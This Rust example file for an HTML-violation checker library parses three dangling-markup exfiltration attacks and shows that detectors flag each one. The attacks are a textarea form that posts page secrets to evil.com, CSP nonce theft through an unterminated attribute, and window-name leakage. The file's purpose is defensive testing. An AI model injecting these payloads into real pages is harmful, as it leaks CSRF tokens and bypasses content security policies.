//! Dangling-markup exfiltration, three ways (Figures 2, 3 and 5).
//!
//! Shows — using the real parser — exactly what content an attacker's
//! non-terminated markup absorbs, and how the DE checkers recognize each
//! attack shape.
//!
//! ```sh
//! cargo run --example dangling_markup
//! ```

use html_violations::prelude::*;

fn main() {
    textarea_form_exfiltration();
    nonce_stealing();
    window_name_exfiltration();
}

/// Figure 3: the injected form + submit + unterminated textarea. Everything
/// after the injection becomes the textarea's value and is POSTed to
/// evil.com when the victim clicks.
fn textarea_form_exfiltration() {
    println!("=== Figure 3: textarea exfiltration (DE1) ===\n");
    let page = "<body>\n\
        <!-- attacker-injected: -->\n\
        <form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n\
        <!-- legitimate page continues: -->\n\
        <p>My little secret</p>\n\
        <p>CSRF token: 53cr3t-t0k3n</p>";
    let doc = parse_document(page);
    let ta = doc.dom.find_html("textarea").expect("textarea");
    println!("content absorbed into the textarea:\n---\n{}\n---", doc.dom.text_content(ta).trim());

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE1));
    println!("checker: DE1 fires ({} finding(s))\n", report.findings.len());
}

/// Figure 2: a non-terminated attribute swallows the page's nonced script
/// tag; the attacker's script inherits the nonce.
fn nonce_stealing() {
    println!("=== Figure 2: nonce stealing (DE3_2) ===\n");
    let page = "<body>\n\
        <script src=\"https://evil.com/x.js\" inj=\"\n\
        <p>The brown fox jumps over the lazy dog</p>\n\
        <script id=\"in-action\" nonce=\"the-rnd-nonce\">\n\
        // do something...\n\
        </script>";
    let doc = parse_document(page);
    // The attacker's script element survives; the inj attribute swallowed
    // the markup up to the victim script's first quote, and — the point of
    // the attack — the victim's nonce now sits as an attribute ON THE
    // ATTACKER'S element.
    let script = doc.dom.find_html("script").expect("script");
    println!("surviving script src:   {:?}", doc.dom.attr(script, "src"));
    println!("stolen nonce attribute: {:?}", doc.dom.attr(script, "nonce"));
    let inj = doc.dom.attr(script, "inj").unwrap_or("");
    println!("swallowed into inj attribute:\n---\n{}\n---", inj.trim());
    assert_eq!(doc.dom.attr(script, "nonce"), Some("the-rnd-nonce"), "the CSP nonce must transfer");
    assert!(inj.to_lowercase().contains("<script"), "inj absorbed the victim's open tag");

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE3_2));
    assert!(report.mitigations.script_in_attribute);
    println!(
        "checker: DE3_2 fires; Chromium's `<script`-in-attribute mitigation would catch this\n"
    );
}

/// Figure 5: an unterminated target attribute absorbs following content;
/// the window *name* leaks cross-origin on the next navigation.
fn window_name_exfiltration() {
    println!("=== Figure 5: window-name exfiltration (DE3_3) ===\n");
    let page = "<body>\n\
        <a href=\"https://evil.com\">click me</a>\n\
        <base target='\n\
        <p>secret</p></div id='a'></div>\n\
        <p>rest of page</p>";
    let doc = parse_document(page);
    let base = doc.dom.find_html("base").expect("base");
    let target = doc.dom.attr(base, "target").unwrap_or("");
    println!("window name for the next click:\n---\n{}\n---", target.trim());
    assert!(target.contains("secret"));

    let report = Battery::full().run_str(page);
    assert!(report.has(ViolationKind::DE3_3));
    println!("checker: DE3_3 fires (newline inside target attribute)");
}
